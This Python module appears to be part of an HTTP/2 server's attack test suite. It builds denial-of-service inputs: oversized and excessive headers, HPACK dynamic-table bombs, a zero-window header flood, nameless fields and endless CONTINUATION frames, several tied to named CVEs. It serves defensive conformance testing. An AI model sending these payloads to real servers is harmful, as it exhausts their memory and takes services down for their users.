"""Requests whose headers are too many, too large, or larger than they look."""

from __future__ import annotations

from tests.attacks.attack import FOREVER, Connects, Steps
from tests.attacks.calls import NEWEST, fields, literal, opening
from tests.conformance.wire import frames
from tests.conformance.wire.frames import END_HEADERS, END_STREAM, Frame

# The largest that any server must take (RFC 9113, section 4.2).
LARGEST = 16384
# A refusal is an answer as any other: what it costs, a client may ask for as often as it likes,
# within the limits of streams. So these ask a few times.
ASKED = 5
# Seconds for the answers.
ANSWERED = 0.2


def framed(stream: int, block: bytes) -> bytes:
    """A field block in one HEADERS and as many CONTINUATION as it takes; ends the request."""
    pieces = [block[at : at + LARGEST] for at in range(0, len(block), LARGEST)]
    sent = [Frame(frames.HEADERS, END_STREAM, stream, pieces[0])]
    sent += [Frame(frames.CONTINUATION, 0, stream, piece) for piece in pieces[1:]]
    sent[-1] = sent[-1]._replace(flags=sent[-1].flags | END_HEADERS)
    return b"".join(frame.encode() for frame in sent)


def asked(*more: tuple[bytes, bytes]) -> Connects:
    """A few calls with so many fields more."""

    def steps() -> Steps:
        # Literals that are not indexed, whatever came before.
        block = fields("Echo") + frames.block(more)
        yield opening() + b"".join(framed(2 * number + 1, block) for number in range(ASKED))
        yield ANSWERED

    return steps


def bomb(field: bytes, references: int, *, settings: dict[int, int] | None = None) -> Connects:
    """A field of HPACK's dynamic table, and references of one byte to it, call after call."""
    block = fields("Echo") + field + NEWEST * references
    again = [framed(2 * number + 1, block) for number in range(50)]

    def steps() -> Steps:
        yield opening(settings)
        yield from again
        yield FOREVER

    return steps


too_large = asked((b"large", bytes(b"x" * 20_000)))
too_many = asked(*[(b"a", b"")] * 200)
too_many_crumbs = asked(*[(b"cookie", b"a=b")] * 200)
# CVE-2016-6581: what is sent is 20 kB, what comes out of it 64 MB.
hpack_bomb = bomb(literal(b"bomb", b"x" * 4000), LARGEST)
# CVE-2026-49975: the fields are tiny, each costs the server a header object, and the window that
# is shut keeps them all for as long as the answer waits.
http2_bomb = bomb(
    literal(b"a", b""), 4 * LARGEST, settings={frames.SETTINGS_INITIAL_WINDOW_SIZE: 0}
)
crumb_bomb = bomb(
    literal(b"cookie", b""), 4 * LARGEST, settings={frames.SETTINGS_INITIAL_WINDOW_SIZE: 0}
)
# CVE-2019-9516: fields with neither name nor value, which a server may drop before it counts.
nameless = bomb(literal(b"", b""), 4 * LARGEST)


def continuations(payload: bytes) -> Connects:
    """CVE-2024-28182: field blocks that do not end, so that no request is there to be limited."""
    more = Frame(frames.CONTINUATION, 0, 1, payload).encode()
    many = more * max(1, 65536 // len(more))

    def steps() -> Steps:
        yield opening() + Frame(frames.HEADERS, END_STREAM, 1, fields("Echo")).encode()
        while True:
            yield many

    return steps


empty_continuations = continuations(b"")
full_continuations = continuations(literal(b"a", b"b" * 1000) * 16)
